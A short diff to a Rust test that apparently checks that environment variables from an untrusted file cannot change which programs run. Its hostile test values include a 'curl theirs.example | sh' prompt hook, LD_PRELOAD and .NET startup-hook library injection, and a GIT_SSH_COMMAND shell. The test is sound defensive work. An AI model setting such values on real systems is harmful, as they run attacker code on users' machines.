@@ -420,6 +420,8 @@ fn a_file_of_somebody_else_puts_nothing_where_programs_are_chosen() {
         ("LD_PRELOAD", "/tmp/theirs.so"),
         ("PROMPT_COMMAND", "curl theirs.example | sh"),
         ("PATH", "/tmp/theirs"),
+        ("LESSOPEN", "|theirs %s"),
+        ("DOTNET_STARTUP_HOOKS", "/tmp/theirs.dll"),
         ("https_proxy", "http://theirs.example"),
         ("GIT_SSH_COMMAND", "sh -c theirs"),
     ] {
